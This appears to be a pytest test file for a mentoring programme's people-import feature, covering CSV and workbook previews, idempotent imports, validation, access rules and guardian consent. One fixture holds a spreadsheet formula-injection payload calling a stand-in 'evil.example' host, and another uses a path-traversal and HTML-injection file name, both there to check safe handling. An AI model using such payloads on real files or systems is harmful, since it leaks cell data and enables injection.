"""Importing people by API and on the pages: preview writes nothing, confirm writes all in one go, the same file again writes nothing."""

import csv
import io
import re
import time
from concurrent.futures import ThreadPoolExecutor
from datetime import date
from pathlib import Path
from unittest.mock import patch

import pytest

from contracts.people import PersonChanged
from pairing.consents import commands as consents
from pairing.consents import guardians
from pairing.consents.letters import key_of
from support.cohort import table
from support.workbooks import from_csv

AUTUMN = {
    "name": "Autumn", "starts_on": "2026-12-01", "ends_on": "2027-05-31", "languages": ["en"], "time_zone": "Europe/Amsterdam",
}  # fmt: skip
ROOT = Path(__file__).parents[4]
SAMPLE, MESSY = ROOT / "deploy/sample/autumn-2026", ROOT / "tests/data/autumn-2026-messy"


def sent(who, programme_id, role, content, confirm="true", name="people.csv"):
    return who.client.post(
        f"/pairing/api/imports?programme_id={programme_id}&role={role}&confirm={confirm}",
        data={"file": (io.BytesIO(content), name)},
        headers=who.bearer,
    )


def counts(answer):
    assert answer.status_code == 200, answer.text
    return {name: answer.json[name] for name in ("good", "created", "updated", "unchanged")}


def told(house):
    return [
        event
        for event in house.said()
        if isinstance(event, PersonChanged) and event.email.endswith(("@mentors.example.org", "@mentees.example.org"))
    ]


def state(house):
    """Everything that an import could write, but for the time of its relay."""
    kept = {name: sorted(house.database[name].find(), key=lambda each: str(each["_id"])) for name in ("people", "accounts", "outbox")}
    return str(kept)


def test_the_sample_is_imported_and_again_changes_nothing(house, autumn):
    id, marit = autumn
    for role, people in (("mentor", 36), ("mentee", 60)):
        content = (SAMPLE / f"{role}s.csv").read_bytes()
        before = state(house)
        assert counts(sent(marit, id, role, content, "false")) == {"good": people, "created": people, "updated": 0, "unchanged": 0}
        assert state(house) == before, "a preview writes nothing"
        assert counts(sent(marit, id, role, content))["created"] == people
        after = state(house)
        assert counts(sent(marit, id, role, content)) == {"good": people, "created": 0, "updated": 0, "unchanged": people}
        assert state(house) == after, "the same file again writes nothing"
    events = told(house)
    assert len(events) == 96
    noor = next(event for event in events if event.email == "noor.postma1@mentees.example.org")
    assert (noor.roles, noor.language, noor.time_zone, noor.programme_ids) == (("mentee",), "nl", "Europe/Amsterdam", (id,))
    assert noor.availability == ("Mon 16:00-17:30", "Fri 09:00-11:30", "Fri 16:00-17:30")
    yara = house.database["people"].find_one({"email": "yara.vandermeer0@mentees.example.org"})
    account = house.database["accounts"].find_one({"_id": yara["_id"]})
    assert (account["email"], account["roles"], account["programmes"]) == (yara["email"], ["mentee"], [id])


def test_a_changed_row_updates_one_person(house, autumn):
    id, marit = autumn
    content = (SAMPLE / "mentors.csv").read_bytes()
    sent(marit, id, "mentor", content)
    changed = content.replace(b"niamh.mccarthy0@mentors", b"NIAMH.McCarthy0@mentors").replace(
        b"Dundalk,Europe/Dublin,en,1996-02-12", b"Cork,Europe/Dublin,ga;en,1996-02-12"
    )
    assert counts(sent(marit, id, "mentor", changed)) == {"good": 36, "created": 0, "updated": 1, "unchanged": 35}
    niamh = house.database["people"].find_one({"email": "niamh.mccarthy0@mentors.example.org"})
    assert (niamh["city"], niamh["version"], niamh["language"]) == ("Cork", 2, "en")


def test_the_messy_files_give_their_good_rows_and_every_error(house, autumn):
    id, marit = autumn
    mentors = sent(marit, id, "mentor", (MESSY / "mentors.csv").read_bytes())
    assert counts(mentors)["created"] == 8
    assert [(each["row"], each["column"]) for each in mentors.json["errors"]] == [
        (3, "email"),
        (4, "capacity"),
        (6, "birth_date"),
        (7, "time_zone"),
    ]
    mentees = sent(marit, id, "mentee", (MESSY / "mentees.csv").read_bytes())
    assert counts(mentees)["created"] == 15
    assert {(each["row"], each["column"]) for each in mentees.json["errors"]} == {
        (2, "guardian_name"),
        (2, "guardian_email"),
        (3, "languages"),
        (5, "email"),
        (6, "availability"),
        (7, "birth_date"),
    }
    assert all(each["message"] and each["value"] is not None for each in mentees.json["errors"])
    wishes = {(each["row"], each["value"]) for each in mentees.json["warnings"] if each["code"] == "wish-unknown"}
    assert (8, "nobody@nowhere.example.org") in wishes
    assert (10, "maud.dijkstra9@mentors.example.org") not in wishes
    evil = house.database["people"].find_one({"email": "freyja.sigurdardottir2@mentees.example.org"})
    assert evil["motivation"] == '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_nobody_is_mentor_and_mentee_or_staff_and_mentee(house, autumn):
    id, marit = autumn
    head, first = (SAMPLE / "mentors.csv").read_bytes().splitlines()[:2]
    sent(marit, id, "mentor", b"\n".join((head, first)))
    head, row = (SAMPLE / "mentees.csv").read_bytes().splitlines()[:2]
    address = row.split(b",")[0]
    for taken in (b"NIAMH.MCCARTHY0@mentors.example.org", b"marit@example.org"):
        answer = sent(marit, id, "mentee", b"\n".join((head, row.replace(address, taken))))
        assert [(each["row"], each["code"]) for each in answer.json["errors"]] == [(2, "email-other-role")]
        assert counts(answer)["good"] == 0
    head, first = (SAMPLE / "mentors.csv").read_bytes().splitlines()[:2]
    own = first.replace(b"niamh.mccarthy0@mentors.example.org", b"marit@example.org")
    assert counts(sent(marit, id, "mentor", b"\n".join((head, own))))["updated"] == 1
    assert house.database["accounts"].find_one({"email": "marit@example.org"})["roles"] == ["administrator", "coordinator", "mentor"]


def test_a_coordinator_does_not_import_her_own_background_check(house, autumn):
    id, marit = autumn
    rows = table("mentor", 1).replace(b"mentor0@mentors.example.org", b"marit@example.org")
    answer = sent(marit, id, "mentor", rows)
    assert ("vetting-own", 2) in {(each["code"], each["row"]) for each in answer.json["warnings"]}
    her = house.database["people"].find_one({"email": "marit@example.org"})
    assert (her["roles"][-1], her["vetting"]) == ("mentor", None)


def with_permission(day="2026-10-01"):
    """A file with one mentee of fourteen whose guardian allowed it on this day."""
    head, row = table("mentee", 1).decode().splitlines()
    row = row.replace("2004-05-04", "2012-05-04")
    cells = dict(zip(head.split(","), row.split(","), strict=True))
    cells |= {"guardian_name": "Rui", "guardian_email": "rui@families.example.org", "guardian_permission": day}
    return "\n".join((",".join(cells), ",".join(cells.values()))).encode()


@pytest.mark.parametrize("how", ["taken back", "refused"])
@pytest.mark.parametrize("guardian", [b"rui@families.example.org", b"another@families.example.org"])
def test_a_file_does_not_give_again_what_a_guardian_took_back_or_refused(house, autumn, how, guardian):
    id, marit = autumn
    sent(marit, id, "mentee", with_permission("" if how == "refused" else "2026-10-01"))
    her = house.database["people"].find_one({"email": "mentee0@mentees.example.org"})
    if how == "refused":
        request = house.do(guardians.ask, her["_id"], "en")
        house.do(guardians.decline, key_of(house.settings, request))
    else:
        house.do(consents.withdraw, her["_id"], "guardian_permission", "guardian")
    answer = sent(marit, id, "mentee", with_permission().replace(b"rui@families.example.org", guardian))
    assert "permission-taken-back" in {each["code"] for each in answer.json["warnings"]}
    found = house.database["people"].find_one({"_id": her["_id"]})
    assert found["guardian"]["permission"] is None
    house.do(lambda uow: consents.record_paper(uow, her["_id"], "guardian_permission", date(2026, 11, 1), by=marit.id))
    again = sent(marit, id, "mentee", with_permission("2026-11-01").replace(b"rui@families.example.org", guardian))
    assert "permission-taken-back" not in {each["code"] for each in again.json["warnings"]}
    assert house.database["people"].find_one({"_id": her["_id"]})["guardian"]["permission"] == "2026-11-01"


def test_the_same_file_at_once_is_imported_once(house, autumn):
    id, marit = autumn
    content = (SAMPLE / "mentors.csv").read_bytes()

    def send(_):
        client = house.app.test_client()
        address = f"/pairing/api/imports?programme_id={id}&role=mentor&confirm=true"
        return client.post(address, data={"file": (io.BytesIO(content), "people.csv")}, headers=marit.bearer).status_code

    with ThreadPoolExecutor(4) as pool:
        answers = set(pool.map(send, range(4)))
    assert answers <= {200, 409} and 200 in answers, answers
    assert len(told(house)) == 36
    assert house.database["people"].count_documents({"roles": "mentor", "version": 1}) == 36


def test_who_may_import_what(house, autumn):
    id, marit = autumn
    content = (SAMPLE / "mentors.csv").read_bytes()
    other = house.signed_in(house.staff("coordinator", email="ana@example.org"))
    assert sent(other, id, "mentor", content).status_code == 403
    for role in ("mentor", "mentee", "administrator"):
        assert sent(house.signed_in(house.staff(role, email=f"{role}@example.org")), id, "mentor", content).status_code == 403
    assert sent(house.nobody(), id, "mentor", content).status_code == 401
    for query in (
        f"programme_id={id}&role=guardian",
        f"programme_id={id}",
        "programme_id=x&role=mentor",
        f"programme_id={id}&role=mentor&confirm=yes",
    ):
        wrong = marit.client.post(f"/pairing/api/imports?{query}", data={"file": (io.BytesIO(content), "x.csv")}, headers=marit.bearer)
        assert wrong.status_code == 422, query
    for wrong in (
        sent(marit, id, "mentor", b""),
        sent(marit, id, "mentor", b"PK\x03\x04"),
        sent(marit, id, "mentor", b"x" * (5 * 1024 * 1024 + 1)),
    ):
        assert (wrong.status_code, list(wrong.json["errors"])) == (422, ["file"])
    assert sent(marit, id, "mentor", b"x" * (9 * 1024 * 1024)).status_code == 413
    assert marit.client.post(f"/pairing/api/imports?programme_id={id}&role=mentor", headers=marit.bearer).status_code in (415, 422)
    assert told(house) == []


def uploaded(marit, id, role, content, name="people.csv"):
    page = marit.page(f"/pairing/people/import?programme={id}").text
    token = re.search(r'name="csrf_token" value="([0-9a-f]+)"', page)[1]
    form = {"csrf_token": token, "programme": id, "role": role, "file": (io.BytesIO(content), name)}
    return marit.client.post("/pairing/people/import", data=form)


def test_the_pages_preview_confirm_and_show_what_was_done(house, autumn):
    id, marit = autumn
    draft = uploaded(marit, id, "mentee", (MESSY / "mentees.csv").read_bytes(), "../<b>evil</b>.csv").location
    shown = marit.page(draft).text
    assert "Import 15 people" in shown and "Klingon" in shown and "<b>evil" not in shown
    assert told(house) == []
    for _ in range(2):
        assert marit.submit(f"{draft}/confirm", {}, on=draft).location == draft
    assert len(told(house)) == 15
    done = marit.page(draft).text
    assert "Imported" in done and f"{draft}/confirm" not in done
    sheet = marit.page(f"{draft}/errors.csv")
    rows = list(csv.reader(io.StringIO(sheet.data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Row", "Column", "Value", "What to do"]
    assert ["6", "availability", "Someday 25:00-26:00"] in [row[:3] for row in rows]
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)


def led_on(marit, id, role):
    """Where the button that stands out leads after the sample of this role was imported, within its list of actions."""
    draft = uploaded(marit, id, role, (SAMPLE / f"{role}s.csv").read_bytes()).location
    marit.submit(f"{draft}/confirm", {}, on=draft)
    actions = re.search(r'<p class="actions">(.*?)</p>', marit.page(draft).text, re.DOTALL)[1]
    return re.findall(r'class="button" href="([^"]+)"', actions)


@pytest.mark.parametrize(("first", "then"), [("mentor", "mentee"), ("mentee", "mentor")])
def test_after_one_side_comes_the_other_and_after_both_the_waiting_list(house, autumn, first, then):
    id, marit = autumn
    assert led_on(marit, id, first) == [f"/pairing/people/import?programme={id}&amp;role={then}"]
    assert led_on(marit, id, then) == [f"/pairing/waiting?programme={id}"]
    assert led_on(marit, id, first) == [f"/pairing/waiting?programme={id}"]


@pytest.mark.parametrize("name", ["people.xlsx", "People.XLSM", "people.xls", "people.ods"])
def test_what_is_called_a_workbook_and_is_none_is_not_read_as_text(house, autumn, name):
    id, marit = autumn
    content = table("mentee", 1)
    page = uploaded(marit, id, "mentee", content, name)
    assert (page.status_code, "This is no Excel workbook that can be read." in page.text) == (422, True)
    assert house.database["import_drafts"].count_documents({}) == 0
    answer = sent(marit, id, "mentee", content, name=name)
    assert (answer.status_code, list(answer.json["errors"])) == (422, ["file"])
    assert house.database["people"].count_documents({"roles": "mentee"}) == 0
    assert uploaded(marit, id, "mentee", from_csv(content), name).status_code == 303, "a workbook is read whatever its ending is"
    assert "empty" in uploaded(marit, id, "mentee", b"", name).text


def test_what_is_no_csv_comes_back_with_a_sentence(house, autumn):
    id, marit = autumn
    for content, words in ((b"", "empty"), (b"PK\x03\x04", "workbook"), (b"\x00\x01", "not a text file")):
        answer = uploaded(marit, id, "mentor", content)
        assert (answer.status_code, words in answer.text) == (422, True)
    assert uploaded(marit, id, "mentor", b"x", name="").status_code == 422
    assert uploaded(marit, id, "guardian", b"x").status_code == 422
    assert uploaded(marit, "00000000-0000-4000-8000-000000000001", "mentor", b"x").status_code == 404
    nothing = uploaded(marit, id, "mentor", b"email\nx@example.org\n").location
    assert "This column is missing" in marit.page(nothing).text


def test_a_draft_is_its_owners_alone(house, autumn):
    id, marit = autumn
    draft = uploaded(marit, id, "mentor", (SAMPLE / "mentors.csv").read_bytes()).location
    other = house.signed_in(house.staff("coordinator", "administrator", email="ana@example.org"))
    assert other.page(draft).status_code == 403
    assert other.page(f"{draft}/errors.csv").status_code == 403
    assert other.submit(f"{draft}/confirm", {}, on="/pairing/programmes").status_code == 403
    assert told(house) == []
    lasts = house.database["import_drafts"].index_information()["expires_at_1"]
    assert lasts["expireAfterSeconds"] == 0


def test_an_address_that_names_nobody_keeps_nobody_apart_and_is_told(house, autumn):
    id, marit = autumn
    sent(marit, id, "mentor", table("mentor", 1))
    rows = (
        table("mentee", 2)
        .replace(b"email,", b"not_with,email,", 1)
        .replace(b"mentee0", b"mentor0@mentors.example.org;typo@example.org,mentee0")
    )
    rows = rows.replace(b"mentee1@", b"mentee0@mentees.example.org,mentee1@")
    answer = sent(marit, id, "mentee", rows)
    assert [(each["row"], each["column"], each["value"]) for each in answer.json["warnings"] if each["code"] == "other-unknown"] == [
        (2, "not_with", "typo@example.org")
    ]
    assert house.database["people"].find_one({"email": "mentee1@mentees.example.org"})["not_with"] == ["mentee0@mentees.example.org"]


def test_what_another_programme_has_of_somebody_stays_as_it_is(house, autumn):
    id, marit = autumn
    sent(marit, id, "mentor", (SAMPLE / "mentors.csv").read_bytes())
    head, row, *_ = (SAMPLE / "mentors.csv").read_bytes().splitlines()
    ana = house.signed_in(house.staff("coordinator", email="ana@example.org"))
    other = ana.post("/pairing/api/programmes", AUTUMN | {"name": "Another"}).json["id"]
    ana = house.renewed(ana)
    before = state(house)
    changed = row.replace(b"Dundalk", b"Cork")
    refused = sent(ana, other, "mentor", b"\n".join((head, changed)))
    assert [(each["row"], each["code"]) for each in refused.json["errors"]] == [(2, "email-elsewhere")]
    assert (counts(refused)["good"], "Dundalk" in refused.text, "Autumn 2026" in refused.text) == (0, False, False)
    assert state(house) == before
    assert counts(sent(ana, other, "mentor", b"\n".join((head, row))))["updated"] == 1, "who stays as she is can take part in both"
    niamh = house.database["people"].find_one({"email": "niamh.mccarthy0@mentors.example.org"})
    assert set(niamh["programme_ids"]) == {id, other}
    kept = state(house)
    for who, programme in ((ana, other), (marit, id)):
        assert sent(who, programme, "mentor", b"\n".join((head, changed))).json["errors"][0]["code"] == "email-elsewhere"
    assert state(house) == kept
    both = house.signed_in(ana.id)
    house.database["accounts"].update_one({"_id": ana.id}, {"$set": {"programmes": [id, other]}})
    assert counts(sent(house.renewed(both), other, "mentor", b"\n".join((head, changed))))["updated"] == 1, "who runs both may"


def five_thousand(wrong=0):
    """A list of mentees, the last ones with two wrong cells each."""
    head, *rows = (SAMPLE / "mentees.csv").read_bytes().splitlines()
    many = [row.replace(b"@mentees", str(turn).encode() + b"@mentees", 1) for turn in range(84) for row in rows][:5000]
    spoilt = [
        row.replace(b"Europe/", b"Europa/").replace(b"Atlantic/", b"Atlantik/").replace(b"@", b"@@", 1) for row in many[5000 - wrong :]
    ]
    return b"\n".join((head, *many[: 5000 - wrong], *spoilt))


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_five_thousand_rows_are_imported_in_time_with_all_errors_at_once(house, autumn, kind):
    id, marit = autumn
    good, bad = five_thousand(), five_thousand(wrong=1_000)
    if kind == "xlsx":
        good, bad = from_csv(good), from_csv(bad)
    for content, created, errors in ((bad, 4_000, 2_000), (good, 1_000, 0), (good, 0, 0)):
        started = time.monotonic()
        answer = sent(marit, id, "mentee", content)
        took = time.monotonic() - started
        assert (counts(answer)["created"], len(answer.json["errors"])) == (created, errors)
        assert took < 10, took
    assert house.database["people"].count_documents({"roles": "mentee"}) == 5000


def test_an_import_that_is_interrupted_writes_nothing(house, autumn):
    id, marit = autumn
    before = state(house)
    with patch("pairing.people.imports.change_people", side_effect=RuntimeError("interrupted")):
        assert sent(marit, id, "mentee", five_thousand()).status_code == 500
    assert state(house) == before
    assert counts(sent(marit, id, "mentee", five_thousand()))["created"] == 5000
